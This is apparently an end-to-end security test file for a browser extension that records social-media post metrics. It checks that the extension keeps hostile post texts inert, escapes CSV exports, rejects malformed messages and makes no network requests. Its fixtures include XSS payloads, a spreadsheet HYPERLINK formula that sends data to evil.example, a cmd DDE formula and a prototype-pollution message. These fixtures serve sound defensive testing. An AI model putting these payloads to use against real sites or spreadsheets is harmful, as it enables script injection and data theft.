// Security in Chromium with the built extension: hostile post texts stay inert everywhere they are shown or
// exported, the background takes messages only from its own extension and refuses malformed ones whole, and a
// realistic session (five sites browsed, popup, dashboard, options, every export and a backup) makes no network
// request from any extension context. The manifest side (CSP, permissions, no externally_connectable) is in
// manifest.e2e.ts. What is asked and why: docs/permissions.md.
import { beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { LIMITS } from '../../lib/fields';
import { bluesky } from '../../lib/sites/bluesky';
import { linkedin } from '../../lib/sites/linkedin';
import { mastodon } from '../../lib/sites/mastodon';
import { reddit } from '../../lib/sites/reddit';
import {
  collectPageErrors,
  downloadVia,
  exportCsv,
  openDashboard,
  openFixture,
  openPopup,
  parseCsv,
  POSTS_CSV_HEADER,
  readFixture,
  scrollThrough,
  settle,
  tabIdOf,
  useBrowser,
  type PageErrors,
} from './harness';
import { countExternalRequests } from './a11y';

declare const chrome: { runtime: { sendMessage(message: unknown): Promise<unknown> } };

const HOSTILE_URL = 'https://x.com/home?hostile';
const LONG_UNIT = '<img src=x onerror="window.__pwned=3"> ';
const LONG_TEXT = LONG_UNIT.repeat(Math.ceil(102_400 / LONG_UNIT.length)).slice(0, 102_400);

/** test/fixtures/x/hostile.html: each tweet's id and the text X shows for it (what the adapter reads). */
const HOSTILE = [
  { id: '1973400000000000001', handle: 'hostile_img', text: '<img src=x onerror="window.__pwned=1">' },
  { id: '1973400000000000002', handle: 'hostile_script', text: '<script>window.__pwned=2</script>' },
  { id: '1973400000000000003', handle: 'hostile_link', text: 'see javascript:alert(1)' },
  { id: '1973400000000000004', handle: 'hostile_rtl', text: 'invoice\u202Efdp.exe\u202C attached' },
  { id: '1973400000000000005', handle: 'hostile_long', text: LONG_TEXT },
  { id: '1973400000000000006', handle: 'formula_link', text: '=HYPERLINK("https://evil.example/?d="&A1,"Open")' },
  { id: '1973400000000000007', handle: 'formula_cmd', text: "+cmd|' /C calc'!A0" },
  { id: '1973400000000000008', handle: 'formula_minus', text: '-1+1' },
  { id: '1973400000000000009', handle: 'formula_at', text: '@SUM(1)' },
] as const;

/**
 * X's handles and ids cannot start a formula, so the payloads reach the CSV's scraped columns (post_id, author) the
 * way any adapter's output does: as an observe message to the background, validated and stored like a content
 * script's batch.
 */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1)', '\t=1+1'];
const formulaPost = (payload: string, i: number) => ({
  site: 'mastodon',
  postId: payload,
  url: `https://mastodon.social/@formula/11500000000000000${i}`,
  author: payload,
  metrics: { likes: { value: i + 1, min: i + 1, max: i + 1, exact: true } },
});
/** A spreadsheet starts a formula with these (lib/csv.ts FORMULA_START). */
const FORMULA_START = /^[=+\-@\t\r\n\0]/;

interface Stored {
  counts: { posts: number; snapshots: number; accounts: number };
  /** Post rows by "site:postId" (only those asked for). */
  rows: Record<string, { text?: string; author?: string; url: string } | null>;
}

/** Counts every store and reads some post rows, from an extension page (the extension's own IndexedDB). */
function readStore(page: Page, keys: [string, string][] = []): Promise<Stored> {
  return page.evaluate(
    (keys) =>
      new Promise<Stored>((resolve, reject) => {
        const open = indexedDB.open('postmeter');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const db = open.result;
          const tx = db.transaction(['posts', 'snapshots', 'accounts']);
          const counts = (['posts', 'snapshots', 'accounts'] as const).map((n) => [n, tx.objectStore(n).count()] as const);
          const gets = keys.map((k) => [k.join(':'), tx.objectStore('posts').get(k)] as const);
          tx.oncomplete = () => {
            db.close();
            resolve({
              counts: Object.fromEntries(counts.map(([n, r]) => [n, r.result as number])) as Stored['counts'],
              rows: Object.fromEntries(gets.map(([k, r]) => [k, (r.result as Stored['rows'][string]) ?? null])),
            });
          };
          tx.onerror = () => reject(tx.error);
        };
      }),
    keys,
  );
}

/**
 * Anything markup-like that is not the extension's own: <img>, <script> without a packaged src, frames, objects,
 * any inline on* handler, any javascript: URL. Searched in the document and every shadow root under `root`.
 */
function foreignMarkup(page: Page, rootSelector?: string): Promise<string[]> {
  return page.evaluate((rootSelector) => {
    const found: string[] = [];
    const visit = (root: Document | ShadowRoot | Element) => {
      for (const el of root.querySelectorAll('*')) {
        const tag = el.localName;
        if (['img', 'iframe', 'object', 'embed', 'frame'].includes(tag)) found.push(`<${tag}>`);
        if (tag === 'script' && !/^\/chunks\//.test(el.getAttribute('src') ?? '')) found.push(`<script src=${el.getAttribute('src')}>`);
        for (const a of el.getAttributeNames()) {
          if (/^on/i.test(a)) found.push(`<${tag} ${a}>`);
          if (/^\s*javascript:/i.test(el.getAttribute(a) ?? '')) found.push(`<${tag} ${a}=javascript:>`);
        }
        if (el.shadowRoot) visit(el.shadowRoot);
      }
    };
    if (rootSelector) for (const r of document.querySelectorAll(rootSelector)) visit(r.shadowRoot ?? r);
    else visit(document);
    return found;
  }, rootSelector);
}

/** A CSS string literal for an attribute selector (quotes, backslashes and control characters escaped). */
const cssString = (s: string) => `"${s.replace(/[\\"]/g, '\\$&').replace(/[\0-\x1f]/g, (c) => `\\${c.charCodeAt(0).toString(16)} `)}"`;

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

/** Every post link's protocol on an extension page. */
const postLinkProtocols = (page: Page) =>
  page.$$eval('[data-postmeter-row] a[href], [data-top-row] a[href]', (links) => links.map((a) => new URL((a as HTMLAnchorElement).href).protocol));

describe('security in Chromium', () => {
  const b = useBrowser();
  let external: ReturnType<typeof countExternalRequests>;
  const dialogs: string[] = [];
  const errors: PageErrors[] = [];

  beforeAll(() => {
    // First thing after launch, before any page opens.
    external = countExternalRequests(b.ext.context);
    const watch = (page: Page) => {
      page.on('dialog', (d) => {
        dialogs.push(`${d.type()}: ${d.message()} (${page.url()})`);
        void d.dismiss().catch(() => undefined);
      });
      errors.push(collectPageErrors(page));
    };
    b.ext.context.pages().forEach(watch);
    b.ext.context.on('page', watch);
  });

  describe('hostile post texts', () => {
    const keys = HOSTILE.map((h) => ['x', h.id] as [string, string]);

    /** hostile.html as an x.com page, scrolled through until every tweet has its badge. */
    async function openHostile(): Promise<Page> {
      const page = await b.ext.context.newPage();
      await page.goto(HOSTILE_URL);
      await scrollThrough(page);
      // (waitForFunction, not expect.poll: this also runs in beforeAll)
      await page.waitForFunction((n) => document.querySelectorAll('[data-postmeter-post]').length === n, HOSTILE.length, { timeout: 15_000 });
      return page;
    }

    beforeAll(async () => {
      b.site.set(HOSTILE_URL, readFixture('x', 'hostile.html'));
      await settle(await openHostile());
      // The formula payloads as another adapter would send them (see FORMULAS).
      const popup = await openPopup(b.ext);
      const reply = await popup.evaluate(
        (posts) => chrome.runtime.sendMessage({ type: 'observe', observedAt: Date.now(), pageUrl: 'https://mastodon.social/home', posts }),
        FORMULAS.map(formulaPost),
      );
      expect(reply).toMatchObject({ prior: {} });
      for (const page of b.ext.context.pages()) await page.close();
    });

    it('stay inert on the site: badges hold only their own markup, nothing ran', async () => {
      const x = await openHostile();
      expect(await pwned(x)).toBeUndefined();
      expect(await foreignMarkup(x, 'postmeter-badge')).toEqual([]);
      // The page itself gained no element from the texts either (its one javascript: link is the fixture's own).
      expect(await x.$$eval('img, script', (els) => els.length)).toBe(0);
      const badgeTags = await x.$$eval('postmeter-badge', (hosts) => [...new Set(hosts.flatMap((h) => [...h.shadowRoot!.querySelectorAll('*')].map((e) => e.localName)))].sort());
      // Chromium adopts one shared stylesheet (components/badge-layer.tsx), so no <style> in each shadow root.
      expect(badgeTags).toEqual(['div', 'span']);
      const adopted = await x.$$eval('postmeter-badge', (hosts) => hosts.map((h) => h.shadowRoot!.adoptedStyleSheets.length));
      expect(new Set(adopted)).toEqual(new Set([1]));
      // …and it applies: the badge floats (position absolute) in a host of no height, so nothing shifts.
      const styled = await x.$$eval('postmeter-badge', (hosts) =>
        hosts.map((h) => [getComputedStyle(h.shadowRoot!.querySelector('.pm-badge')!).position, h.getBoundingClientRect().height]),
      );
      expect(new Set(styled.map(String))).toEqual(new Set(['absolute,0']));
    });

    it('are stored as the text the page shows, the 100 KB one cut to the stored limit', async () => {
      const popup = await openPopup(b.ext);
      const { rows } = await readStore(popup, keys);
      for (const h of HOSTILE) {
        const row = rows[`x:${h.id}`];
        expect(row, h.handle).not.toBeNull();
        expect(row!.url, h.handle).toBe(`https://x.com/${h.handle}/status/${h.id}`);
        expect(row!.author, h.handle).toBe(h.handle);
        if (h.text === LONG_TEXT) {
          expect(row!.text!.length).toBeGreaterThan(100);
          expect(row!.text!.length).toBeLessThanOrEqual(LIMITS.text);
          expect(LONG_TEXT.startsWith(row!.text!)).toBe(true);
        } else {
          expect(row!.text, h.handle).toBe(h.text);
        }
      }
    });

    it('show as text in the popup, with https post links', async () => {
      const x = await openHostile();
      const popup = await openPopup(b.ext, await tabIdOf(b.ext, x));
      const tab = popup.locator('[data-section="tab"]');
      await tab.locator(`[data-postmeter-row="x:${HOSTILE[0].id}"]`).waitFor();
      for (const h of HOSTILE) {
        const shown = await tab.locator(`[data-postmeter-row="x:${h.id}"] .pm-text`).textContent();
        expect(shown, h.handle).toBe(` — ${h.text.slice(0, 80)}`);
        expect(await tab.locator(`[data-postmeter-row="x:${h.id}"] a.pm-post-title`).getAttribute('title'), h.handle).toBe(
          h.text === LONG_TEXT ? (await readStore(popup, [['x', h.id]])).rows[`x:${h.id}`]!.text : h.text,
        );
      }
      // The formula authors, in the recent list.
      const recent = await popup.locator('[data-section="recent"] .pm-post-title').allTextContents();
      for (const f of FORMULAS) expect(recent.some((t) => t.includes(`@${f}`)), f).toBe(true);
      const protocols = await postLinkProtocols(popup);
      expect(protocols.length).toBeGreaterThanOrEqual(HOSTILE.length);
      expect(new Set(protocols)).toEqual(new Set(['https:']));
      expect(await foreignMarkup(popup)).toEqual([]);
      expect(await pwned(popup)).toBeUndefined();
    });

    it('show as text in the dashboard table and post detail, with https post links', async () => {
      const dash = await openDashboard(b.ext);
      for (const h of HOSTILE.filter((h) => h.handle.startsWith('hostile'))) {
        const row = dash.locator(`[data-postmeter-row="x:${h.id}"]`);
        await row.locator('.pm-row-select').click();
        const text = dash.locator(`[data-detail="x:${h.id}"] .pm-post-text`);
        await text.waitFor();
        expect(await text.textContent(), h.handle).toBe(h.text.slice(0, 280));
      }
      for (const [i, f] of FORMULAS.entries()) {
        const row = dash.locator(`[data-postmeter-row=${cssString(`mastodon:${formulaPost(f, i).postId}`)}]`);
        expect(await row.locator('.pm-row-select').textContent(), f).toContain(f.trim());
      }
      const protocols = await postLinkProtocols(dash);
      expect(protocols.length).toBeGreaterThanOrEqual(HOSTILE.length);
      expect(new Set(protocols)).toEqual(new Set(['https:']));
      expect(await foreignMarkup(dash)).toEqual([]);
      expect(await pwned(dash)).toBeUndefined();
    });

    it('are neutralised in both CSV exports and read back exactly', async () => {
      const dash = await openDashboard(b.ext);
      const files = [(await exportCsv(b.ext)).text, (await downloadVia(dash, 'Export posts CSV')).text];
      for (const text of files) {
        const csv = parseCsv(text);
        expect(csv.header.join(',')).toBe(POSTS_CSV_HEADER);
        for (const [i, f] of FORMULAS.entries()) {
          const row = csv.rows.find((r) => r.site === 'mastodon' && r.url === formulaPost(f, i).url);
          expect(row, f).toBeDefined();
          // Prefixed with an apostrophe, so a spreadsheet shows the text instead of evaluating it.
          expect(row!.post_id, f).toBe(`'${f}`);
          expect(row!.author, f).toBe(`'${f}`);
        }
        for (const h of HOSTILE) expect(csv.rows.some((r) => r.post_id === h.id && r.author === h.handle), h.handle).toBe(true);
        // No cell of any row starts a formula.
        const risky = csv.rows.flatMap((r) => Object.entries(r).filter(([, v]) => FORMULA_START.test(v)).map(([k, v]) => `${k}=${v}`));
        expect(risky).toEqual([]);
      }
    });
  });

  describe('messages', () => {
    const probe = (postId: string) => ({
      site: 'x',
      postId,
      url: `https://x.com/probe/status/${postId}`,
      metrics: { likes: { value: 1, min: 1, max: 1, exact: true } },
    });

    it('a web page cannot message the background (no externally_connectable) nor the content script', async () => {
      const url = 'https://x.com/home?probe';
      b.site.set(url, readFixture('x', 'empty.html'));
      const page = await b.ext.context.newPage();
      await page.goto(url);
      const message = { type: 'observe', observedAt: Date.now(), pageUrl: url, posts: [probe('1973500000000000001')] };
      const outcome = await page.evaluate(
        async ({ id, message }) => {
          const runtime = (globalThis as unknown as { chrome?: { runtime?: { sendMessage?: (id: string, m: unknown) => Promise<unknown> } } }).chrome?.runtime;
          // Also the page's own channel to a content script, which Postmeter never listens on.
          window.postMessage(message, '*');
          if (typeof runtime?.sendMessage !== 'function') return 'no chrome.runtime.sendMessage in the page';
          try {
            return `answered ${JSON.stringify(await runtime.sendMessage(id, message))}`;
          } catch (error) {
            return `refused: ${(error as Error).message}`;
          }
        },
        { id: b.ext.extensionId, message },
      );
      expect(outcome).toMatch(/^(no chrome.runtime.sendMessage in the page$|refused: )/);
      await settle(page);
      const popup = await openPopup(b.ext);
      expect((await readStore(popup, [['x', '1973500000000000001']])).rows['x:1973500000000000001']).toBeNull();
    });

    it('a malformed observe message is refused whole: no reply, nothing written', async () => {
      const popup = await openPopup(b.ext);
      const before = (await readStore(popup)).counts;
      const id = (n: number) => `19735000000000001${String(n).padStart(2, '0')}`;
      const now = Date.now();
      const ok = (n: number) => probe(id(n));
      const malformed: [string, unknown][] = [
        ['a javascript: url', { ...ok(1), url: 'javascript:alert(1)' }],
        ['a data: url', { ...ok(2), url: 'data:text/html,<script>alert(1)</script>' }],
        ['text over the limit', { ...ok(3), text: 'x'.repeat(LIMITS.text + 1) }],
        ['an author over the limit', { ...ok(4), author: 'a'.repeat(LIMITS.author + 1) }],
        ['an unknown site', { ...ok(5), site: 'evil' }],
        ['a negative count', { ...ok(6), metrics: { likes: { value: -1, min: -1, max: -1, exact: true } } }],
        ['min above max', { ...ok(7), metrics: { likes: { value: 5, min: 9, max: 2, exact: false } } }],
        ['an unknown metric', { ...ok(8), metrics: { pwned: { value: 1, min: 1, max: 1, exact: true } } }],
        // Renamed to "__proto__" in the JSON parsed in the page (below): an own key, as runtime messaging (JSON) keeps it.
        // Built here it would be lost on the way to the page (assigning __proto__ sets the prototype).
        ['a __proto__ key', { polluted_proto_: { polluted: true }, ...ok(9) }],
        ['a number as postId', { ...ok(10), postId: 12 }],
        ['a publishedAt in the future', { ...ok(11), publishedAt: now + 365 * 86_400_000 }],
      ];
      const batches: [string, unknown][] = [
        ...malformed.map(([what, post]): [string, unknown] => [what, { type: 'observe', observedAt: now, pageUrl: 'https://x.com/home', posts: [ok(20), post] }]),
        ['501 posts', { type: 'observe', observedAt: now, pageUrl: 'https://x.com/home', posts: Array.from({ length: 501 }, (_, i) => probe(`19735000000001${String(i).padStart(5, '0')}`)) }],
        ['posts not an array', { type: 'observe', observedAt: now, pageUrl: 'https://x.com/home', posts: { 0: ok(21) } }],
        ['no observedAt', { type: 'observe', pageUrl: 'https://x.com/home', posts: [ok(22)] }],
        ['an unknown type', { type: 'write', posts: [ok(23)] }],
        ['not an object', 'observe'],
      ];
      for (const [what, message] of batches) {
        const json = JSON.stringify(message).replace('"polluted_proto_":', '"__proto__":');
        const reply = await popup.evaluate((json) => chrome.runtime.sendMessage(JSON.parse(json)).then((r) => ({ r }), (e: Error) => ({ e: e.message })), json);
        expect(reply, what).not.toHaveProperty('r.prior');
      }
      // The valid post that shared each batch was not stored either: a batch is taken whole or not at all.
      const after = await readStore(popup, [['x', id(20)], ['x', id(1)], ['x', id(9)]]);
      expect(after.counts).toEqual(before);
      expect(Object.values(after.rows)).toEqual([null, null, null]);
      expect(await popup.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();

      // The same message, well formed, is taken: the refusals above are the validation, not a dead channel.
      const reply = await popup.evaluate((m) => chrome.runtime.sendMessage(m), { type: 'observe', observedAt: now, pageUrl: 'https://x.com/home', posts: [ok(20)] });
      expect(reply).toEqual({ prior: { [`x:${id(20)}`]: null } });
      expect((await readStore(popup, [['x', id(20)]])).rows[`x:${id(20)}`]).not.toBeNull();
    });
  });

  it('a realistic session makes no request from any extension context', async () => {
    const x = await openFixture(b, 'x', 'timeline.html', 'https://x.com/home', 'article');
    await openFixture(b, 'bluesky', 'home.html', 'https://bsky.app/', bluesky.postSelector);
    await openFixture(b, 'reddit', 'home.html', 'https://www.reddit.com/', reddit.postSelector);
    await openFixture(b, 'linkedin', 'feed.html', 'https://www.linkedin.com/feed/', linkedin.postSelector);
    const last = await openFixture(b, 'mastodon', 'home.html', 'https://mastodon.social/home', mastodon.postSelector);
    await settle(last.page);

    const popup = await openPopup(b.ext, await tabIdOf(b.ext, x.page));
    await popup.locator('[data-section="tab"] [data-postmeter-row]').first().waitFor();
    const csv = parseCsv((await downloadVia(popup, 'Export CSV')).text);
    expect(new Set(csv.rows.map((r) => r.site))).toEqual(new Set(['x', 'bluesky', 'reddit', 'linkedin', 'mastodon']));

    const dash = await openDashboard(b.ext);
    for (const button of ['Export posts CSV', 'Export snapshots CSV', 'Export backup']) {
      expect((await downloadVia(dash, button)).text.length, button).toBeGreaterThan(100);
    }
    const options = await b.ext.context.newPage();
    await options.goto(`chrome-extension://${b.ext.extensionId}/options.html`);
    await options.locator('section[data-section="sites"] input[role="switch"]:not([disabled])').first().waitFor();
    // The service worker's own periodic work (retention purge) has had its chance to run as well.
    await (await b.ext.worker()).evaluate(() => new Promise((r) => setTimeout(r, 500)));

    expect(external.urls()).toEqual([]);
    expect(external.count()).toBe(0);
  });

  it('raised no page errors and opened no dialogs anywhere', () => {
    expect(errors.flatMap((e) => e.errors)).toEqual([]);
    expect(dialogs).toEqual([]);
  });
});
